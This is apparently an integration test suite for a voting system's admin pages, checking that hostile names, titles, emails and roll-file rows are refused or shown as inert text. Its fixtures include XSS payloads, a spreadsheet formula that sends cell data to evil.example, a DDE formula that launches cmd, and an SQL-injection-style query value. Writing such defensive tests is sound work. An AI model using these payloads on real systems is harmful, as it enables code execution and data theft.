package org.securevote.system;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Values that pass the form's own checks but are meant to hurt: markup and script in names and
 * titles, text-direction overrides and zero-width characters, spreadsheet formulas, odd but valid
 * email addresses, dates at the ends of the calendar, candidate names that read the same, and every
 * maximum length exactly. Each ends in a 4xx with a message, or is stored and shown as harmless
 * text; never a 500 or a stack trace.
 */
class HostileInputIT {
  private static final String SCRIPT = "<script>alert('t')</script><img src=x onerror=alert(1)>";
  private static final String RTL_OVERRIDE = "Ada \u202Eecalevol";
  private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
  private static final WebSession admin = new WebSession();
  private static String draft;

  @BeforeAll
  static void signIn() {
    admin.signIn(Deployed.adminEmail(), Deployed.adminPassword());
    draft = AdminPages.draftElection(admin);
  }

  @Test
  void markupInATitleIsStoredAndShownAsText() {
    String title = "Board " + SCRIPT + " " + unique();
    HttpResponse<String> created = createElection(title, "2031-05-01T09:00", "2031-05-02T09:00");
    assertEquals(302, created.statusCode(), created.body());
    Document page = Jsoup.parse(harmless(admin.follow(created)));
    assertEquals(title, page.selectFirst("h1").text());
    assertInert(page);
    Document list = Jsoup.parse(harmless(admin.get("/admin/elections.xhtml")));
    assertTrue(list.text().contains(title), "listed as typed");
    assertInert(list);
  }

  @Test
  void textDirectionOverridesAreRefusedWithAMessage() {
    refused(createElection(RTL_OVERRIDE, "2031-05-01T09:00", "2031-05-02T09:00"), "direction");
    refused(addCandidate(draft, RTL_OVERRIDE), "direction");
    refused(saveVoter("RTL-" + unique(), RTL_OVERRIDE, unique() + "@example.org"), "direction");
  }

  @Test
  void zeroWidthCharactersAreStoredAndShown() {
    String title = "Board\u200B\u200Dvote " + unique();
    HttpResponse<String> created = createElection(title, "2031-05-01T09:00", "2031-05-02T09:00");
    assertEquals(302, created.statusCode(), created.body());
    // As stored, invisible characters included (the HTML parser would drop the zero-width space).
    assertTrue(harmless(admin.follow(created)).contains(title));
  }

  @Test
  void datesAtTheEndsOfTheCalendar() {
    HttpResponse<String> lastYear =
        createElection("Year 9999 " + unique(), "9999-12-31T00:00", "9999-12-31T23:59");
    assertEquals(302, lastYear.statusCode(), lastYear.body());
    assertTrue(Jsoup.parse(harmless(admin.follow(lastYear))).text().contains("31 Dec 9999, 23:59"));

    refused(createElection("Late " + unique(), "9999-12-31T00:00", "+10000-01-01T00:00"), "9999");
    refused(createElection("Early " + unique(), "0001-01-01T00:00", "2031-01-01T00:00"), "2000");
    refused(
        createElection("Far " + unique(), "2031-01-01T00:00", "+999999999-12-31T23:59"), "9999");
    refused(
        createElection("Backwards " + unique(), "2031-05-02T09:00", "2031-05-01T09:00"),
        "close after it opens");
    refused(
        createElection("Same " + unique(), "2031-05-02T09:00", "2031-05-02T09:00"),
        "close after it opens");
    refused(
        createElection("Not a day " + unique(), "2031-02-30T09:00", "2031-03-01T09:00"),
        "date and time");
  }

  @Test
  void candidateNamesThatReadTheSameAreRefused() {
    String election = AdminPages.draftElection(admin);
    assertEquals(200, addCandidate(election, "Ada Lovelace").statusCode());
    for (String same :
        List.of(" ada   lovelace ", "ADA LOVELACE", "Ada \u200BLovelace", "\uFF21da Lovelace")) {
      refused(addCandidate(election, same), "already a candidate");
    }
    String markup = "<b onmouseover=alert(1)>Grace</b>";
    assertEquals(200, addCandidate(election, markup).statusCode());
    Document page = Jsoup.parse(harmless(admin.get("/admin/election.xhtml?id=" + election)));
    assertTrue(page.getElementById("candidates").text().contains(markup));
    assertInert(page);
  }

  @Test
  void maximumLengthsExactlyAreStoredAndOneMoreIsRefused() {
    String title = unique() + "t".repeat(200 - 8);
    HttpResponse<String> created =
        createElection(title, "2031-05-01T09:00", "2031-05-02T09:00", "d".repeat(4000));
    assertEquals(302, created.statusCode(), created.body());
    assertEquals(title, Jsoup.parse(harmless(admin.follow(created))).selectFirst("h1").text());
    refused(createElection(title + "t", "2031-05-01T09:00", "2031-05-02T09:00"), "200");

    String candidate = unique() + "c".repeat(200 - 8);
    assertEquals(200, addCandidate(draft, candidate).statusCode());
    refused(addCandidate(draft, candidate + "c"), "200");

    String ref = unique() + "R".repeat(64 - 8);
    String email =
        "a".repeat(64)
            + "@"
            + "b".repeat(63)
            + "."
            + "c".repeat(63)
            + "."
            + "d".repeat(57)
            + ".org";
    assertEquals(254, email.length());
    String name = unique() + "n".repeat(200 - 8);
    HttpResponse<String> saved = saveVoter(ref, name, email);
    assertEquals(200, saved.statusCode(), saved.body());
    Document shown = Jsoup.parse(harmless(admin.get("/admin/voters.xhtml?q=" + ref)));
    assertTrue(shown.getElementById("list:voters").text().contains(email), "stored in full");
    refused(saveVoter(unique(), name + "n", unique() + "@example.org"), "200");
    String longer = email.replace(".org", "d.org"); // 255 characters, every part within its limit
    refused(saveVoter(unique(), "Long mail", longer), "254");
  }

  @Test
  void oddButValidEmailAddressesAreStoredOrRefusedClearly() {
    for (String email :
        List.of(
            "First.Last+ballot@Example.ORG",
            "\"very.unusual\"@example.org",
            "o'brien@example.org",
            "user@localhost",
            "j\u00FCrgen@ex\u00E4mple.org",
            "<script>@example.org")) {
      String ref = "MAIL-" + unique();
      HttpResponse<String> saved = saveVoter(ref, "Odd mail " + ref, email);
      harmless(saved);
      if (saved.statusCode() == 200) {
        Document shown = Jsoup.parse(harmless(admin.get("/admin/voters.xhtml?q=" + ref)));
        assertTrue(
            shown.getElementById("list:voters").text().contains(email.toLowerCase()),
            email + " stored as typed, in lower case");
        assertInert(shown);
      }
    }
  }

  @Test
  void aSpreadsheetFormulaInANameIsJustAName() {
    String ref = "CSV-" + unique();
    assertEquals(200, saveVoter(ref, FORMULA, unique() + "@example.org").statusCode());
    Document shown = Jsoup.parse(harmless(admin.get("/admin/voters.xhtml?q=" + ref)));
    assertTrue(shown.getElementById("list:voters").text().contains(FORMULA));
    assertTrue(shown.select("a[href^=https://evil]").isEmpty());
  }

  @Test
  void hostileNamesInARollFileAreCheckedAndImportedAsText() throws Exception {
    String ref = "IMP-" + unique();
    String csv =
        "voter_id,name,email\n"
            + ref
            + "-1,\""
            + FORMULA.replace("\"", "\"\"")
            + "\","
            + ref.toLowerCase()
            + "-1@example.org\n"
            + ref
            + "-2,\"@SUM(1+1)*cmd|' /C calc'!A0\","
            + ref.toLowerCase()
            + "-2@example.org\n"
            + ref
            + "-3,"
            + SCRIPT.replace(",", " ")
            + ","
            + ref.toLowerCase()
            + "-3@example.org\n";
    HttpResponse<String> checked = upload(csv);
    assertEquals(200, checked.statusCode(), checked.body());
    assertTrue(checked.body().contains("id=\"commit\""), checked.body());
    HttpResponse<String> started =
        admin.submit(checked.body(), "commit", Map.of("commit:import", "Import"));
    harmless(started);
    for (int i = 0; i < 100; i++) {
      Document shown = Jsoup.parse(harmless(admin.get("/admin/voters.xhtml?q=" + ref)));
      if (shown.select("#list\\:voters tbody tr").size() == 3) {
        String text = shown.getElementById("list:voters").text();
        assertTrue(text.contains(FORMULA), text);
        assertTrue(text.contains("@SUM(1+1)*cmd|' /C calc'!A0"), text);
        assertInert(shown);
        return;
      }
      Thread.sleep(200);
    }
    throw new AssertionError("the import did not finish");
  }

  @Test
  void aRollFileWithATextDirectionOverrideIsRefusedRowByRow() {
    String ref = "IMP-" + unique();
    HttpResponse<String> checked =
        upload("voter_id,name,email\n" + ref + "," + RTL_OVERRIDE + "," + ref + "@example.org\n");
    String body = harmless(checked);
    assertTrue(body.contains("text-direction override"), body);
    assertFalse(body.contains("id=\"commit\""), "nothing to import");
  }

  @Test
  void oversizedOrOddSearchesAndPagePositionsAreHandled() {
    refused(admin.get("/admin/voters.xhtml?q=" + "x".repeat(2000)), "at most 200");
    refused(
        admin.get("/admin/election.xhtml?id=" + draft + "&q=" + "x".repeat(2000)), "at most 200");
    for (String odd : List.of("after=" + "z".repeat(2000), "before=%27%20or%201=1", "q=%5C%25_")) {
      assertEquals(200, admin.get("/admin/voters.xhtml?" + odd).statusCode(), odd);
    }
  }

  private static HttpResponse<String> createElection(String title, String opens, String closes) {
    return createElection(title, opens, closes, "");
  }

  private static HttpResponse<String> createElection(
      String title, String opens, String closes, String description) {
    Map<String, String> fields = new HashMap<>();
    fields.put("create:title", title);
    fields.put("create:description", description);
    fields.put("create:opensAt", opens);
    fields.put("create:closesAt", closes);
    fields.put("create:ballotType", "SINGLE_CHOICE");
    fields.put("create:submit", "Create election");
    return admin.submit(admin.get("/admin/elections.xhtml").body(), "create", fields);
  }

  private static HttpResponse<String> addCandidate(String election, String name) {
    return admin.submit(
        admin.get("/admin/election.xhtml?id=" + election).body(),
        "addCandidate",
        Map.of("addCandidate:name", name, "addCandidate:submit", "Add candidate"));
  }

  private static HttpResponse<String> saveVoter(String ref, String name, String email) {
    return admin.submit(
        admin.get("/admin/voters.xhtml").body(),
        "voter",
        Map.of(
            "voter:voterRef",
            ref,
            "voter:name",
            name,
            "voter:email",
            email,
            "voter:submit",
            "Add"));
  }

  /** A 4xx whose page names the problem; the body is returned. */
  /**
   * An admin page for an election that does not exist, or an id that is no id: a 404 that says so.
   */
  @Test
  void anUnknownOrMalformedElectionOnTheAdminPageIsA404() {
    for (String id : new String[] {"0".repeat(32), "not-an-id", "%27%3Cb%3E"}) {
      HttpResponse<String> answer = admin.get("/admin/election.xhtml?id=" + id);
      assertEquals(404, answer.statusCode(), id);
      assertTrue(Jsoup.parse(answer.body()).text().contains("There is no such election."), id);
    }
  }

  private static void refused(HttpResponse<String> answer, String explanation) {
    int status = answer.statusCode();
    assertTrue(status >= 400 && status < 500, "answered " + status);
    String messages =
        Jsoup.parse(harmless(answer)).select("#messages, .text-red-700, .text-red-800").text();
    assertTrue(messages.contains(explanation), "no message about " + explanation + ": " + messages);
  }

  /** Not a server error, no stack trace; the body. */
  private static String harmless(HttpResponse<String> answer) {
    assertTrue(answer.statusCode() < 500, "answered " + answer.statusCode() + ": " + answer.body());
    for (String trace : List.of("Exception", "\tat org.", "\tat java.")) {
      assertFalse(answer.body().contains(trace), "the page shows " + trace);
    }
    return answer.body();
  }

  /** No element or attribute that the stored values would have made if they were markup. */
  private static void assertInert(Document page) {
    List<String> found = new ArrayList<>();
    page.select("script").stream()
        .filter(s -> s.data().contains("alert"))
        .forEach(s -> found.add(s.outerHtml()));
    page.select("[onerror], [onmouseover], img[src=x]").forEach(e -> found.add(e.outerHtml()));
    assertTrue(found.isEmpty(), "markup from input: " + found);
  }

  private static String unique() {
    return UUID.randomUUID().toString().substring(0, 8);
  }

  private static HttpResponse<String> upload(String csv) {
    return AdminPages.uploadRoll(admin, csv.getBytes(StandardCharsets.UTF_8));
  }
}
